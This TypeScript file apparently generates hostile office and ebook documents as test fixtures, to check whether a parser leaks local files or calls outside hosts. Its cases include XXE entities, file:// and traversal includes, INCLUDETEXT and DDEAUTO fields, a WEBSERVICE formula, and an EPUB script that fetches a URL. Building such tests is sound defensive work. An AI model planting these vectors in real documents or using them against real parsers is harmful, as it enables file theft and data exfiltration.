/** The same in the formats of offices and in ebooks, which are zips of XML that point to each other, and elsewhere. */
import type { Hostile, Ways } from './references.ts';
import { type Entry, zip } from './zip.ts';

const relation = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;

const relations = (inner: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;

function word(body: string, rels: string, before = '<?xml version="1.0"?>'): Buffer {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const names =
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
  return zip(
    entries({
      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
      '_rels/.rels': relations(
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>',
      ),
      'word/document.xml': `${before}<w:document ${names}><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p>${body}</w:body></w:document>`,
      'word/_rels/document.xml.rels': relations(rels),
    }),
  );
}

const entries = (files: Readonly<Record<string, string>>): Entry[] =>
  Object.entries(files).map(([name, content]) => ({ name, content, isDeflated: name !== 'mimetype' }));

const drawn = (id: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const field = (text: string): string =>
  `<w:p><w:fldSimple w:instr="${text}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;

export function office({ text, picture, url, image, entity }: Ways): readonly Hostile[] {
  const openDocument = (kind: string, content: string): Buffer =>
    zip(
      entries({
        mimetype: `application/vnd.oasis.opendocument.${kind}`,
        'META-INF/manifest.xml': `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
        'content.xml': content,
      }),
    );
  const names =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"';
  const writer = (inner: string, before = '<?xml version="1.0"?>'): Buffer =>
    openDocument(
      'text',
      `${before}<office:document-content ${names} office:version="1.2"><office:body><office:text>${inner}</office:text></office:body></office:document-content>`,
    );
  const frame = (href: string): string =>
    `<text:p><draw:frame text:anchor-type="as-char" svg:width="3cm" svg:height="3cm"><draw:image xlink:href="${href}" xlink:type="simple"/></draw:frame></text:p>`;
  const section = (href: string): string =>
    `<text:section text:name="a"><text:section-source xlink:href="${href}" xlink:type="simple"/><text:p>x</text:p></text:section>`;
  const calc = openDocument(
    'spreadsheet',
    `<?xml version="1.0"?><office:document-content ${names} xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}&quot;)"/><table:table-cell table:formula="of:='file://${text}'#$a.A1"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
  );
  const book = (page: string, before = ''): Buffer =>
    zip(
      entries({
        mimetype: 'application/epub+zip',
        'META-INF/container.xml':
          '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        'a.opf': `${before === '' ? '<?xml version="1.0"?>' : before}<package xmlns="http://www.idpf.org/2007/opf" version="2.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T${before === '' ? '' : '&canary;'}</dc:title><dc:identifier id="i">1</dc:identifier><dc:language>en</dc:language></metadata><manifest><item id="p" href="p.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="p"/></spine></package>`,
        'p.xhtml': page,
      }),
    );
  const xhtml = (inner: string, before = '<?xml version="1.0"?>'): string =>
    `${before}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><link rel="stylesheet" href="${url}.css"/></head><body><p>Hello</p>${inner}</body></html>`;
  return [
    { name: 'linked.docx', content: word(drawn('x1'), relation('x1', 'image', image)) },
    { name: 'linked-file.docx', content: word(drawn('x1'), relation('x1', 'image', `file://${picture}`)) },
    { name: 'template.docx', content: word('', relation('x1', 'attachedTemplate', `${url}.dotx`)) },
    {
      name: 'frame.docx',
      content: word('<w:altChunk r:id="x1"/>', relation('x1', 'aFChunk', `file://${text}`)),
    },
    {
      name: 'fields.docx',
      content: word(
        field(`INCLUDETEXT &quot;${text}&quot;`) +
          field(`INCLUDEPICTURE &quot;${image}&quot;`) +
          field(`DDEAUTO c:\\\\a &quot;${url}&quot;`),
        '',
      ),
    },
    {
      name: 'entity.docx',
      content: word('<w:p><w:r><w:t>&canary;</w:t></w:r></w:p>', '', entity('w:document')),
    },
    { name: 'image.odt', content: writer(frame(image) + frame(`file://${picture}`) + frame(`..${picture}`)) },
    { name: 'section.odt', content: writer(section(`file://${text}`) + section(`${url}.odt`)) },
    { name: 'entity.odt', content: writer('<text:p>&canary;</text:p>', entity('office:document-content')) },
    { name: 'formula.ods', content: calc },
    {
      name: 'image.epub',
      content: book(
        xhtml(`<img src="${image}"/><img src="file://${picture}"/><img src="../../../../..${picture}"/>`),
      ),
    },
    {
      name: 'script.epub',
      content: book(xhtml(`<script>fetch("${url}")</script><iframe src="file://${text}"/>`)),
    },
    { name: 'entity.epub', content: book(xhtml('<p>&canary;</p>', entity('html')), entity('package')) },
    { name: 'entity.xlsx', content: sheet(entity('worksheet')) },
    {
      name: 'linked.rtf',
      content: `{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "${image}"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt x}}{\\*\\template ${url}.dot}}`,
    },
    {
      name: 'linked.fodt',
      content: `${entity('office:document')}<office:document ${names} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>${frame(image)}${section(`file://${text}`)}<text:p>&canary;</text:p></office:text></office:body></office:document>`,
    },
  ];
}

function sheet(before: string): Buffer {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return zip(
    entries({
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
      '_rels/.rels': relations(
        `<Relationship Id="r1" Type="${type}/officeDocument" Target="xl/workbook.xml"/>`,
      ),
      'xl/workbook.xml': `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${type}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': relations(
        `<Relationship Id="r1" Type="${type}/worksheet" Target="worksheets/sheet1.xml"/>`,
      ),
      'xl/worksheets/sheet1.xml': `${before}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&canary;</t></is></c></row></sheetData></worksheet>`,
    }),
  );
}
